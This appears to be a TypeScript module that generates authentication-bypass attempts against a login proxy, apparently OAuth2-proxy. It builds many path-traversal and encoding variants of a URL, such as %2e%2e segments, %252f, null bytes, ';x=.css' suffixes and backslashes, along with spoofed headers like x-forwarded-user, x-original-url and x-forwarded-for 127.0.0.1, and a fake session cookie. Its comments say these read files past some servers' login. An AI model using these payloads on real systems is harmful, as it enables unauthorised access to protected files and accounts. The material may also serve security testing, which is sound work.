const prefixes =
  '/ /x/.. /x/%2e%2e /x/%2E%2E /.. /%2e%2e /oauth2/.. /oauth2/%2e%2e /oauth2/auth/.. /oauth2%2f.. /oauth2/..; ' +
  'http://127.0.0.1 http://elsewhere.example';
const suffixes = '/ . %20 %00 %00.css /. /.. /x/.. ; ;x=.css ? ?/oauth2/auth #x .br .gz ~';

/** Other ways to write an address. By each, files were read past the login of some server. */
export function pathTricks(address: string): string[] {
  const [, ...parts] = address.split('/');
  const escaped = parts.map((part) => Buffer.from(part).toString('hex').replace(/../g, '%$&'));
  return [
    ...prefixes.split(' ').map((prefix) => prefix + address),
    ...suffixes.split(' ').map((suffix) => address + suffix),
    ...['//', '/./', '\\'].map((slash) => slash + parts.join(slash)),
    ...['%5c', '%2f'].map((slash) => `/${slash}${parts.join(slash)}`),
    ...['%2F', '%252f'].map((slash) => `/${parts.join(slash)}`),
    address.replace(/\/(?=[^/]*$)/, '/.%2f'),
    `/oauth2\\..\\${parts.join('\\')}`,
    `/${escaped.join('/')}`,
    address.toUpperCase(),
  ];
}

/** Headers by which some servers skip the login, or that change what they answer. */
export const headerTricks: readonly Record<string, string>[] = [
  { authorization: `Basic ${Buffer.from('agen:salah').toString('base64')}` },
  { authorization: `Basic ${Buffer.from(':').toString('base64')}` },
  { authorization: 'Bearer x' },
  { 'x-forwarded-user': 'agen', 'x-forwarded-email': 'agen@example.test', 'x-auth-request-user': 'agen' },
  { 'x-original-url': '/oauth2/auth', 'x-rewrite-url': '/oauth2/auth', 'x-original-uri': '/oauth2/auth' },
  { 'x-accel-redirect': '/index.html', 'x-forwarded-for': '127.0.0.1', 'x-real-ip': '127.0.0.1' },
  { range: 'bytes=0-99' },
  { 'if-none-match': '*' },
  { 'if-modified-since': 'Fri, 31 Dec 2099 23:59:59 GMT' },
  { 'accept-encoding': 'br' },
  { cookie: '_oauth2_proxy=x' },
];
